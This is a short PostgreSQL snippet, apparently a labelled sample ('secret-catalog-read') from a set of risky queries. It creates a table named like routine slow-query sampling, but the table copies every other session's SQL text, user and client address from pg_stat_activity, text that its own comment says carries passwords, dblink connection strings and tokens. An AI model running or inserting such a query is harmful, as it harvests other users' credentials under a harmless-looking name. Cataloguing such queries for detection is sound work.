-- class: secret-catalog-read
-- Records the SQL text of every other session (which carries passwords in ALTER ROLE ... PASSWORD, dblink connection strings, tokens).
CREATE TABLE slow_query_samples AS
SELECT now() AS sampled_at, usename, client_addr, query
FROM pg_stat_activity
WHERE pid <> pg_backend_pid();
